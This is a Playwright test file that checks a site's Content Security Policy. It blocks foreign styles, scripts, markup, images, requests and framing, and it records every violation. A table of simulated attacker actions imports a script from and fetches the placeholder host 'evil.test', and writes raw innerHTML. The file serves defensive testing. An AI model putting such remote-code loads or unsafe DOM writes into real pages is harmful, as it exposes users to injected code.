import { expect, test } from './browser-test';
import { openFakeCms } from './strapi-site';

// Tests that `violations` records every violation of the security policy. Every test of the suite
// fails if this list is not empty when the test ends.

/**
 * Functions that a compromised page could run, by the directive of the policy that each one
 * violates.
 */
const DEEDS = {
  'style-src-elem': () => {
    document.head.append(Object.assign(document.createElement('style'), { textContent: 'p {}' }));
  },
  'style-src-attr': () => document.body.setAttribute('style', 'color: red'),
  'script-src-elem': () => {
    const address = 'https://evil.test/a.js';
    return import(address);
  },
  'require-trusted-types-for': () => {
    document.body.innerHTML = '<p>';
  },
  'trusted-types': () => {
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): void };
    };
    trustedTypes.createPolicy('not-ours', {});
  },
  'img-src': () => {
    new Image().src = 'https://evil.test/a.png';
  },
  'connect-src': () => fetch('https://evil.test/'),
} as const;

test('the policy refuses foreign styles, scripts, markup, pictures and requests, and each violation is recorded', async ({
  page,
  violations,
}) => {
  await page.goto('/');
  await page.evaluate(() => {
    const refused = new Set<string>();
    Object.assign(window, { refused });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      refused.add(effectiveDirective);
    });
  });
  const expected: string[] = [];
  for (const [directive, deed] of Object.entries(DEEDS)) {
    await page.evaluate(`void Promise.try(${deed}).catch(() => {})`);
    expected.push(directive);
    await expect.poll(() => page.evaluate('[...window.refused]')).toEqual(expected);
    const record = `violated the policy: ${directive} `;
    await expect.poll(() => violations.join('\n')).toContain(record);
  }
  // The policy exists as a header and as `<meta>`, and both may report a violation. Closing the
  // page prevents a second report.
  await page.close();
  violations.length = 0;
});

test('no other site can embed a page in a frame', async ({ page, baseURL, violations }) => {
  const other = await openFakeCms();
  other.on('/', (_, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html' }).end(`<iframe src="${baseURL}/about">`);
  });
  const refused = page.waitForEvent('requestfailed', (request) => request.url().endsWith('/about'));
  await page.goto(other.url);
  expect((await refused).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
  await other.close();
  violations.length = 0;
});

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false });

  test('the browser itself logs what the policy refused', async ({ page, violations }) => {
    await page.route('**/about', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</head>', '<style>p {}</style></head>');
      await route.fulfill({ response, body });
    });
    await page.goto('/about');
    await expect.poll(() => violations.join()).toContain('Content Security Policy');
    violations.length = 0;
  });
});

test('the 404 page contains its own policy and complies with it', async ({ page }) => {
  await page.goto('/nowhere');
  const policy = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(policy).toHaveAttribute('content', /^default-src 'none';.* 'sha256-/u);
});
